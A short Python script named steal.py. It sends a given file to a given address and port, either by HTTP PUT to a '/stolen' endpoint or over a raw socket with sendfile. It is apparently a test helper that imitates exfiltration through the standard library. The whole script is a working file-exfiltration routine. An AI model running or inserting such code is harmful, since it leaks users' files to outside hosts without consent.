# SPDX-License-Identifier: Apache-2.0
"""steal.py http|sendfile FILE ADDRESS PORT: sends a file as Python's own library does."""
import http.client
import os
import socket
import sys

how, path, address, port = sys.argv[1:]
with open(path, "rb") as file:
    if how == "http":
        connection = http.client.HTTPConnection(address, int(port))
        connection.request("PUT", "/stolen", file, {"Content-Length": os.path.getsize(path)})
        sys.exit(connection.getresponse().status != 201)
    with socket.create_connection((address, int(port))) as sink:
        sink.sendfile(file)
